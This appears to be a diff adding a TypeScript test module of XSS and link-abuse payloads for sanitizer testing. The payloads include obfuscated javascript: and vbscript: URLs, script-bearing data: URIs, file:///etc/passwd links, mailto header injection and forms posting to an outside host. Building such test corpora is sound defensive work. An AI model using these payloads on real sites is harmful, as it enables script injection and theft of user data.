@@ -1,0 +1,65 @@
+import type {Family} from "./family.js"
+
+const link = (href: string) => `<a href="${href}">Bridge</a>`
+const full = (text: string) => Array.from(text, char => String.fromCharCode(char.charCodeAt(0) + 0xfee0)).join("")
+const decimal = (text: string) => Array.from(text, char => `&#${char.charCodeAt(0)};`).join("")
+const hex = (text: string) => Array.from(text, char => `&#x${char.charCodeAt(0).toString(16)};`).join("")
+const percent = (text: string) => Array.from(text, char => `%${char.charCodeAt(0).toString(16)}`).join("")
+const padded = (text: string) => Array.from(text, char => `&#${String(char.charCodeAt(0)).padStart(7, "0")}`).join("")
+
+/// Addresses that are code, in every spelling; and other places where an address is followed.
+export const addresses: Family = ({run, host, pictures}) => [
+  link(`javascript:${run}`),
+  link(`JaVaScRiPt:${run}`),
+  link(`\n\t javascript:${run}`),
+  link(`java\nscript:${run}`),
+  link(`j\na\nv\na\ns\nc\nr\ni\np\nt\n:${run}`),
+  link(`javascript:\n${run}`),
+  link(`java&Tab;script:${run}`),
+  link(`javascript&colon;${run}`),
+  link(`&#1;javascript:${run}`),
+  link(`&#x1f; &#14;javascript:${run}`),
+  link(`\u00a0javascript:${run}`),
+  link(`\ufeffjavascript:${run}`),
+  link(`\u200bjavascript:${run}`),
+  link(`java\u00adscript:${run}`),
+  link(`${decimal("javascript:")}${run}`),
+  link(`${hex("javascript:")}${run}`),
+  link(`${padded("javascript")};:${run}`),
+  link(`${percent("javascript:")}${run}`),
+  link(`javascript:${percent(run)}`),
+  link(`javascript%3A${run}`),
+  link(`${full("javascript")}:${run}`),
+  link(`javascript\uff1a${run}`),
+  link(`javascript://news.example/%0a${run}`),
+  link(`javascript:/*https://news.example/*/${run}`),
+  link(`javascript:javascript:${run}`),
+  link(`javajavascript:script:${run}`),
+  link(`vbscript:${run}`),
+  link(`VbScRiPt:${run}`),
+  link(`data:text/html,<script>${run}</script>`),
+  link(`DATA:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=`),
+  link(`data:text/html;charset=utf-7,+ADw-script+AD4-${run}`),
+  link(`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`),
+  link(`data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`),
+  link(`blob:https://news.example/${run}`),
+  link(`file:///etc/passwd`),
+  link(`chrome://settings`),
+  link(`http://javascript:${run}@news.example/`),
+  link(`https://news.example\\@${host}/`),
+  link(`\\\\${host}\\share`),
+  link(`mailto:a@news.example?body=<script>${run}</script>`),
+  link(`mailto:a@news.example%0d%0aBcc:x@${host}`),
+  link(`https://news.example/"onmouseover="${run}`),
+  link(`https://news.example/&quot;onmouseover=&quot;${run}`),
+  `<a href=javascript:${run}>Bridge`,
+  `<a href="https://news.example/" href="javascript:${run}">Bridge</a>`,
+  `<a href="javascript:${run}"><h1>Bridge</h1><p>Open</p></a>`,
+  `<map name=a><area shape=default href="javascript:${run}"></map><img usemap=#a src="http://${pictures}/a.png">`,
+  `<form action="javascript:${run}"><button>Send</button></form>`,
+  `<form action="http://${host}/"><input name=a value=b><button>Send</button></form>`,
+  `<form><button formaction="javascript:${run}">Send</button></form>`,
+  `<form id=a></form><button form=a formaction="http://${host}/" formmethod=post>Send</button>`,
+  `<isindex action="javascript:${run}" type=image>`,
+  `<button type=button onclick="location='javascript:${run}'">Open</button>`,
+]
